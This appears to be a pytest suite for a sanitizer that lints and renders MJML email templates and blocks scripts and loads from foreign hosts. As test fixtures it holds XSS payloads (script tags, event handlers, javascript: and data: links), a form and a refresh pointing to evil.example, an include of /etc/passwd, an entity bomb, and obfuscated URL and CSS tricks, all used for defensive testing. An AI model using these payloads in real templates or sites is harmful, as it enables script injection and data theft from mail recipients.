"""MJML: guarded before it is rendered, and after."""

import re
import time
from contextlib import suppress
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dissemination.delivery import mjml
from dissemination.delivery.lint import lint
from dissemination.delivery.loads import css_addresses, foreign_host
from dissemination.delivery.mjml import MjmlProblem, check, render, render_draft

TEMPLATES = Path(__file__).resolve().parents[2] / "templates" / "mail"


def mail(content, head=""):
    return (
        f"<mjml><mj-head>{head}</mj-head><mj-body>\n<mj-section><mj-column>\n"
        f"{content}\n</mj-column></mj-section></mj-body></mjml>"
    )


def text(content):
    return mail(f"<mj-text>{content}</mj-text>")


@pytest.mark.parametrize(
    ("source", "problems"),
    [
        (text("<script>alert(1)</script>"), ["3:10: <script> must not stand in a mail"]),
        (text('<a href="java&#x73;cript:x">x</a>'), ["3:13: href must be a web address, not a script"]),
        (text('<p onclick="x">x</p>'), ["3:13: onclick would run a script: remove it"]),
        (mail("<mj-txt>x</mj-txt>"), ["3:1: unknown element <mj-txt>"]),
        (mail('<mj-text colour="red">x</mj-text>'), ["3:10: <mj-text> has no attribute colour"]),
        (mail("ciao"), ["3:1: text directly in <mj-column> would be lost: put it into an <mj-text>"]),
        ("<mjml><mj-body>ciao</mj-body></mjml>",
         ["1:16: text directly in <mj-body> would be lost: put it into an <mj-text>"]),
        (mail("<mj-section></mj-section>"),
         ["3:1: <mj-section> cannot stand in <mj-column>, only in: mj-body, mj-wrapper"]),
        (mail("<mj-text>x"), ["3:1: <mj-text> is not closed before </mj-column>"]),
        (mail("</mj-text>"), ["3:1: </mj-text> closes nothing that is open"]),
        (text("a < b"), ["3:12: this < opens no complete tag; write &lt; for the sign itself"]),
        (mail('<mj-include path="x" />'),
         ["3:1: <mj-include> is not supported: write what stands in the other file in its place"]),
        (mail('<mj-image src="https://else.example/x.png" alt="" />'),
         ["3:11: this would be loaded from else.example: a mail calls no other host"]),
        (mail("", "<mj-style>@import url(//else.example/x.css)</mj-style>"),
         ["1:34: this would be loaded from else.example: a mail calls no other host"]),
        (mail('<mj-image src="https://own.example/x.png" />'),
         ['3:1: <mj-image> has no alt text; write alt="" for a mere ornament']),
        ("", ["1:1: there is no <mjml> element"]),
        (text("x" * 600_000), ["1:1: longer than 512 kB"]),
        (text("<div>" * 12_000), ["3:485: tags are nested more than 100 deep"]),
        (text("<div>" * 90 + "x" + "</div>" * 90), []),
        (text('Ciao <a href="https://else.example/">lì</a> &amp; <br> là'), []),
    ],
)  # fmt: skip
def test_problems_are_told_with_line_and_column(source, problems):
    assert [str(p) for p in check(source, hosts=["own.example"])] == problems


def test_newlines_of_a_textarea_do_no_harm():
    source = mail('<mj-button href="https://own.example/">Vai</mj-button>', "<mj-title>T</mj-title>")
    assert render(source.replace("\n", "\r\n")) == render(source)


def test_control_characters_pasted_into_a_title_do_no_harm():
    assert "due righe" in render(mail("<mj-text><p>due\x0brighe</p></mj-text>"))
    assert "a b c" in render(mail("<mj-text><p>a\0b\ufffec</p></mj-text>"))


def test_a_greater_than_sign_behind_an_accent_does_no_harm():
    """mrml panics on it (htmlparser 0.2.1: "not a char boundary")."""
    html = render(
        mail("<mj-text>Perché -> così > là</mj-text>", "<mj-style>.k > td::after { content: 'é' }</mj-style>")
    )
    assert "Perché -&gt; così &gt; là" in html
    assert ".k > td::after { content: '\\e9 ' }" in html


VALID = {
    "a comment among defaults": mail("<mj-text>KEEP</mj-text>", "<mj-attributes><!-- a\n -- > b --><mj-all padding='0' /></mj-attributes>"),
    "a comment in a carousel": mail('<mj-text>KEEP</mj-text><mj-carousel left-icon="/a" right-icon="/b" icon-width="9px"><!-- x --><mj-carousel-image src="https://own.example/a.png" alt="a" /></mj-carousel>'),
    "a comment with a sign": "<!-- a > b <mj-section> -- c -->" + text("KEEP"),
    "capital letters": text("a<BR>b<P ALIGN=left>KEEP</P>").replace("mj-section", "MJ-Section"),
    "an XML declaration": '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE mjml>\n' + text("KEEP"),
    "a break that is closed": text("a<br></br>b<BR></BR>KEEP"),
    "lines for Outlook": text("a<!--[if mso]><p>KEEP</p><![endif]-->b"),
}  # fmt: skip


@pytest.mark.parametrize("newline", ["\n", "\r\n"])
@pytest.mark.parametrize("name", VALID)
def test_what_mrml_cannot_read_and_mjml_can_is_put_right_before(name, newline):
    assert "KEEP" in render(VALID[name].replace("\n", newline), hosts=["own.example"])


def test_an_error_of_the_renderer_is_told_at_its_own_line():
    head = '<!--\n\n--><mj-style inline="inline">\n.a { color: red }\n</mj-style><mj-preview>\n <b>x</b></mj-preview>'
    with pytest.raises(MjmlProblem) as told:
        render("<?xml version='1.0'?>\n" + mail('<mj-text\n color="red">x</mj-text>', head))
    [problem] = told.value.problems
    assert (problem.line, problem.message) == (7, "the renderer stops here: unexpected token")


def test_every_guard_is_fast_on_hostile_sources():
    started = time.process_time()
    for source in (
        text("<" * 200_000),
        text('<a "' * 100_000),
        text("<!--" * 100_000),
        text("<a b='" * 80_000),
    ):
        assert lint(source)
    assert time.process_time() - started < 5


def test_attribute_values_arrive_as_written():
    source = mail(
        '<mj-image src="https://own.example/a.png" alt="l\u2019arte \u200d\u00a0e\u0301 \\ &quot;di\n più&quot;" />'
    )
    html = render(source, hosts=["own.example"])
    assert "\\u{" not in html
    assert 'alt="l&#8217;arte &#8205;&#160;e&#769; &#92; &quot;di pi&#249;&quot;"' in html


def test_language_and_alt_are_set_when_the_author_forgot():
    html = render(mail('<mj-image src="https://own.example/a.png" />'), language="en", hosts=["own.example"])
    assert '<html lang="en"' in html
    assert re.search(r'<img [^>]*alt=""', html)


def test_inline_styles_are_written_into_the_elements():
    html = render(
        mail(
            '<mj-text css-class="k">x</mj-text>',
            '<mj-style inline="inline">.k { padding-top: 3px }</mj-style>',
        )
    )
    assert 'style="' in html
    assert "padding-top: 3px" in re.search(r'<td[^>]*class="k"[^>]*>', html)[0]


def test_what_mrml_adds_by_itself_calls_no_other_host():
    accordion = (
        "<mj-accordion><mj-accordion-element><mj-accordion-title>t</mj-accordion-title>"
        "<mj-accordion-text>x</mj-accordion-text></mj-accordion-element></mj-accordion>"
    )
    with pytest.raises(MjmlProblem, match=r"i\.imgur\.com"):
        render(mail(accordion))


def test_a_draft_that_takes_too_long_or_breaks_the_renderer_ends_only_the_child(monkeypatch):
    monkeypatch.setattr(mjml, "TIME_LIMIT", 0.01)
    with pytest.raises(MjmlProblem, match="longer than"):
        render_draft(text("x"))
    monkeypatch.setattr(mjml, "TIME_LIMIT", 20)
    monkeypatch.setattr(mjml.sys, "executable", "/bin/false")
    with pytest.raises(MjmlProblem, match="breaks the renderer"):
        render_draft(text("x"))


@given(st.text(st.sampled_from("<>/\"'=&- \nmjabcxtesion!\\é")))
def test_no_source_breaks_the_linter_and_what_it_lets_through_renders_or_is_told(source):
    for candidate in (source, text(source)):
        if not any(p.serious for p in lint(candidate)):
            with suppress(MjmlProblem):  # told, with a place
                assert "</html>" in render(candidate)


def test_the_commands_say_where(app, tmp_path):
    runner = app.test_cli_runner()
    good, bad = tmp_path / "good.mjml", tmp_path / "bad.mjml"
    good.write_text(text("Ciao"))
    bad.write_text(mail("<mj-txt>x</mj-txt>"))
    assert (runner.invoke(args=["mjml", "check", str(good)]).exit_code) == 0
    answer = runner.invoke(args=["mjml", "check", str(bad)])
    assert (answer.exit_code, answer.output) == (1, f"{bad}:3:1: unknown element <mj-txt>\n")
    assert "Ciao" in runner.invoke(args=["mjml", "render", str(good)]).output
    assert runner.invoke(args=["mjml", "render", str(bad)]).exit_code == 1


HOSTILE = {
    "nested tags": text("<div>" * 12_000),
    "nested sections": "<mjml><mj-body>" + "<mj-section>" * 12_000,
    "5 MB": text("x" * 5_000_000),
    "an include of itself": mail('<mj-include path="./self.mjml" />'),
    "an include in the head": mail("", '<mj-include path="/etc/passwd" type="css" />'),
    "script": text("<ScRiPt src=//evil.example/x.js></ScRiPt>"),
    "script in raw": mail("<mj-raw><script>alert(1)</script></mj-raw>"),
    "svg": text("<svg onload=alert(1)>"),
    "a handler": mail('<mj-button href="https://own.example/" onmouseover="alert(1)">x</mj-button>'),
    "javascript": mail('<mj-button href=" java\nscript:alert(1)">x</mj-button>'),
    "a data document": mail('<mj-button href="data:text/html;base64,PHNjcmlwdD4=">x</mj-button>'),
    "a form": text('<form action="https://evil.example/"><input name="p"></form>'),
    "a refresh": mail(
        "", '<mj-raw><meta http-equiv="refresh" content="0; url=//evil.example"><base href="//e"></mj-raw>'
    ),
    "a font": mail("", '<mj-font name="x" href="https://evil.example/f.css" />'),
    "a background": mail('<mj-text css-class="x" style="background:url(//evil.example/p.gif)">x</mj-text>'),
    "an unknown tag": mail("<mj-blink>x</mj-blink>"),
    "no end": "<mjml><mj-body><mj-section",
    "an entity bomb": '<!DOCTYPE lolz [<!ENTITY lol "lol">]>' + text("&lol;"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_template_is_refused_with_its_place_and_in_a_moment(name):
    began = time.process_time()
    found = check(HOSTILE[name], hosts=["own.example"])
    assert time.process_time() - began < 5
    errors = [p for p in found if p.level == "error"]
    assert errors
    assert all(p.line >= 1 and p.column >= 1 and p.message for p in found)
    with pytest.raises(MjmlProblem):
        mjml.render_guarded(HOSTILE[name], hosts=["own.example"])


@pytest.mark.parametrize("source", [
    text("Ciao").replace("\n", "\r\n"), text("Ciao").replace("\n", "\r"), "\ufeff" + text("Ciao"),
    text("Ciao\x0b\x00\x1f"), text("Ciao &nbsp; &eacute; 🧵"),
])  # fmt: skip
def test_what_a_textarea_or_an_editor_puts_in_does_no_harm(source):
    assert [p for p in check(source) if p.level == "error"] == []
    assert "Ciao" in mjml.render_guarded(source)


WRITTEN_OTHERWISE = {
    "entities": '<mj-image alt="" src="https&#58;//else.example/x.png" />',
    "no slashes": '<mj-image alt="" src="https:else.example/x.png" />',
    "one slash": '<mj-image alt="" src="https:/else.example/x.png" />',
    "three slashes": '<mj-image alt="" src="https:///else.example/x.png" />',
    "backslashes": '<mj-image alt="" src="https:\\\\else.example/x.png" />',
    "slash and backslash": '<mj-image alt="" src="/\\else.example/x.png" />',
    "another's name": '<mj-image alt="" src="https://own.example@else.example/x.png" />',
    "a backslash before ours": '<mj-image alt="" src="https://else.example\\@own.example/x.png" />',
    "in a text": '<mj-text><img alt="" src=https:else.example/x.png></mj-text>',
    "an old attribute": '<mj-text><img alt="" src="/a.png" lowsrc="https://else.example/x.png"></mj-text>',
    "ping": '<mj-text><a ping="https://else.example/p" href="https://own.example">x</a></mj-text>',
    "CSS with an escape": '<mj-text><p style="background:u\\72l(https://else.example/x)">x</p></mj-text>',
    "CSS, escaped address": '<mj-text><p style="background:url(\\68ttps:else.example/x)">x</p></mj-text>',
    "CSS with an entity": '<mj-text><p style="background:url&#40;https://else.example/x)">x</p></mj-text>',
    "image-set": "<mj-text><p style=\"background:image-set('/a' 1x, 'https://else.example/x' 2x)\">x</p></mj-text>",
    "by an attribute": '<mj-text font-family="x;background:url(https:else.example/x)">x</mj-text>',
}  # fmt: skip


@pytest.mark.parametrize("name", WRITTEN_OTHERWISE)
def test_no_way_of_writing_an_address_loads_from_another_host(name):
    found = [p for p in check(mail(WRITTEN_OTHERWISE[name]), hosts=["own.example"]) if p.serious]
    assert "else.example" in str(found[0])


@pytest.mark.parametrize("style", [
    '@import"https://else.example/x.css";', '@import/**/"https://else.example/x.css";',
    "@\\69mport url(https:else.example/x.css);",
    'a{content:"/*";background:url(https:/else.example/x);color:red/*"*/}',
])  # fmt: skip
def test_no_style_sheet_loads_from_another_host(style):
    found = [p for p in check(mail("", f"<mj-style>{style}</mj-style>"), hosts=["own.example"]) if p.serious]
    assert "else.example" in str(found[0])


@pytest.mark.parametrize("words", [
    '<meta http-equiv="refresh" content="0;url=https://else.example/">',
    '<a href="data:image/svg+xml,x">x</a>', '<a href="data:application/xhtml+xml,x">x</a>',
])  # fmt: skip
def test_nothing_leads_away_by_itself(words):
    assert [p.serious for p in check(mail(f"<mj-text>{words}</mj-text>"))] == [True]


@pytest.mark.parametrize(
    "address",
    ["https://own.example/a.png", "HTTPS:\\\\OWN.example:443/a", "a.png", "data:image/png;base64,x", "#a"],
)
def test_our_own_addresses_stay(address):
    assert foreign_host(address, frozenset({"own.example"})) is None


@pytest.mark.parametrize("css", ["/*" * 200_000, "image-set(" * 40_000, "url(" * 100_000, "\\" * 400_000])
def test_a_hostile_style_sheet_is_read_in_linear_time(css):
    began = time.monotonic()
    list(css_addresses(css))
    assert time.monotonic() - began < 2
